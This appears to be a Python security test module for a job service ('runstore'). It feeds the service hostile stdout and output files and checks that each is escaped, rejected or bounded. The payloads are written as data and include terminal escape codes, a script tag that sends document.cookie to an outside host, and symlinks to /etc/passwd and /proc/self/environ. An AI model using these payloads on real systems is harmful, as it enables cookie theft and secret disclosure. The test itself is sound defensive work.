"""Hostile stdout: escape codes, HTML, what is no UTF-8, lines without end, a gigabyte; and outputs that are none."""

import asyncio
import json
from collections.abc import Callable

from tests.attack.attack import Attack, Plan, Tally
from tests.attack.kinds.obedience import Ended, obey
from tests.attack.site import Site
from tests.attack.verdict import MIB
from tests.cli.processes import run as run_command

PEAK_BYTES = 700 * MIB
"""What the worker may hold while a run prints a gigabyte: it writes the last 64 MiB of each stream as JSON."""

GATEWAY_PEAK_BYTES = 300 * MIB
PRINT = "import sys\nraw = {raw}\nsys.stdout.buffer.write(raw)\nsys.stderr.buffer.write(raw)"
OUT = "import os, pathlib\nout = pathlib.Path(os.environ['RUNSTORE_OUTPUTS'])\n"

MUCH = 2_000_000
PRINTED: dict[str, tuple[bytes, str]] = {
    "escape codes": (b"\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x9b31m\x1bP+q544e\x1b\\",
    "\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\ufffd31m\x1bP+q544e\x1b\\"),
    "html": (b"<script>fetch('//x?'+document.cookie)</script><img src=x onerror=alert(1)>",
        "<script>fetch('//x?'+document.cookie)</script><img src=x onerror=alert(1)>"),
    "invalid utf-8": (b"a\xff\xfe\xc0\xaf\xed\xa0\x80\xf5b", "a\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd\ufffdb"),
    "nothing but zeros": (b"\x00" * 1000, "\x00" * 1000),
    "separators of json": ("\u2028\u2029\"\\\r\n\u0085".encode(), "\u2028\u2029\"\\\r\n\u0085"),
    "directions": ("\u202e\u2066\ufeff\U000e0001".encode(), "\u202e\u2066\ufeff\U000e0001"),
    "events of sse": (b"\n\ndata: {\"status\":\"success\"}\nevent: run\nid: 1\n\n",
        "\n\ndata: {\"status\":\"success\"}\nevent: run\nid: 1\n\n"),
    "a line of 2 MB": (b"x" * MUCH, "x" * MUCH),
    "half a character": ("é".encode()[:1], "\ufffd"),
}  # fmt: skip
OUTPUTS: dict[str, str] = {
    "outputs: a link to a secret": "out.symlink_to('/etc/passwd')",
    "outputs: the worker's own environment": "out.symlink_to('/proc/self/environ')",
    "outputs: a pipe": "os.mkfifo(out)",
    "outputs: a folder": "out.mkdir()",
    "outputs: zeros without end": "out.symlink_to('/dev/zero')",
    "outputs: a sparse terabyte": "f = open(out, 'wb'); f.truncate(10**12)",
    "outputs: deep": "out.write_text('{\"a\":' * 5000 + '1' + '}' * 5000)",
    "outputs: nan": "out.write_text('{\"a\": NaN}')",
    "outputs: no json": "out.write_bytes(b'\\xff\\xfe{')",
    "outputs: a list": "out.write_text('[1]')",
    "outputs: a socket": "import socket; s = socket.socket(socket.AF_UNIX); os.chdir(out.parent); s.bind(out.name)",
}
GIGABYTES = {"a gigabyte of letters": "b'x'", "a gigabyte of zeros": "b'\\0'"}
GIGABYTE = "import os\npiece = {piece} * 65536\nfor _ in range(1024 * 16): os.write(1, piece)\n"


async def run(site: Site, tally: Tally, plan: Plan) -> None:
    """Have each of them printed, and see what is told of it: over HTTP, and by the command line."""
    worker, gateway = site.process("worker"), site.process("gateway")
    cases: list[Callable[[int], object]] = []
    for name, (raw, shown) in PRINTED.items():
        cases.append(lambda number, name=name, raw=raw, shown=shown: _printed(site, tally, name, raw, shown, number))
    for name, code in OUTPUTS.items():
        cases.append(lambda number, name=name, code=code: _left(site, tally, name, code, number))
    numbers = list(plan.numbers())
    peaks = worker.forget_peak() and gateway.forget_peak()
    await asyncio.gather(*(cases[number % len(cases)](number) for number in numbers if number < len(cases)))
    for number, (name, piece) in enumerate(GIGABYTES.items(), len(cases)):
        if number not in numbers:
            continue
        ended = await obey(site, tally, name, GIGABYTE.format(piece=piece), number)
        if ended is not None and (ended.status != "success" or not 0 < len(ended.stdout) <= 64 * MIB):
            tally.fail(f"{name}: not what was printed at the end", told=(ended.status, ended.reason, len(ended.stdout)))
        tally.sent_bytes += 64 * MIB
    if peaks:
        tally.notes.append(
            f"the worker held {worker.peak_bytes() // MIB} MiB at most, the gateway {gateway.peak_bytes() // MIB} MiB"
        )
        for process, most in ((worker, PEAK_BYTES), (gateway, GATEWAY_PEAK_BYTES)):
            if process.peak_bytes() > most:
                tally.fail(f"the {process.name} held {process.peak_bytes() // MIB} MiB, more than {most // MIB}")


async def _printed(site: Site, tally: Tally, name: str, raw: bytes, shown: str, number: int) -> None:
    tally.sent_bytes += len(raw)
    ended = await obey(site, tally, name, PRINT.format(raw=repr(raw) if len(raw) < MUCH else f"b'x' * {MUCH}"), number)
    if ended is None:
        return
    if (ended.status, ended.stdout, ended.stderr) != ("success", shown, shown):
        tally.fail(
            f"{name}: the output is not what was printed",
            number,
            raw[:100],
            (ended.status, ended.reason, ended.stdout[:200]),
        )
    await _told(site, tally, name, ended, number)


async def _told(site: Site, tally: Tally, name: str, ended: Ended, number: int) -> None:
    """See that neither a browser nor a terminal takes it for its own."""
    import aiohttp

    headers = {"Authorization": f"Bearer {site.admin}"}
    async with aiohttp.ClientSession(headers=headers) as http:
        for rest, media in (("", "application/json"), ("/output", "application/json"), ("/logs", "text/plain")):
            async with http.get(f"{site.url}/v1/runs/{ended.run_id}{rest}") as answer:
                body = await answer.read()
                if answer.content_type != media:
                    tally.fail(f"{name}: told as {answer.content_type}", number)
                if media == "application/json" and any(byte < 0x20 for byte in body):
                    tally.fail(f"{name}: raw control characters in JSON", number)
                json.loads(body) if media == "application/json" else body.decode()
        async with http.get(
            f"{site.url}/v1/runs/{ended.run_id}/logs", headers={"Accept": "text/event-stream"}
        ) as answer:
            for line in (await answer.read()).decode().replace("\r\n", "\n").split("\n"):
                if line and not line.startswith(("data: ", "event: ", "id: ", ":", "retry: ")):
                    tally.fail(f"{name}: a line that breaks out of SSE", number, told=line[:200])
                    break
    told = await asyncio.to_thread(
        run_command, "get", ended.run_id, folder=site.folder, RUNSTORE_URL=site.url, RUNSTORE_TOKEN=site.admin
    )
    if any(each in told.stdout for each in "\x1b\x07\x9b\u202e"):
        tally.fail(f"{name}: an escape code that reaches a terminal by `runstore get`", number)


async def _left(site: Site, tally: Tally, name: str, code: str, number: int) -> None:
    ended = await obey(site, tally, name, OUT + code, number)
    if ended is None:
        return
    if ended.status != "failed" or "RUNSTORE_OUTPUTS" not in ended.reason:
        tally.fail(f"{name}: ended as {ended.status}", number, code, ended.reason)
    for secret in (site.redis_url.rpartition("@")[0].rpartition(":")[2], "root:x:", *site.tokens.values()):
        if secret and secret in ended.reason + ended.stdout + ended.stderr:
            tally.fail(f"{name}: a secret that came out", number, told=ended)


ATTACK = Attack(
    name="stdout",
    checks="told as printed, as JSON or plain text; no escape code from the CLI; bad outputs fail; memory bounded",
    least=4,
    most=len(PRINTED) + len(OUTPUTS) + len(GIGABYTES),
    run=run,
)
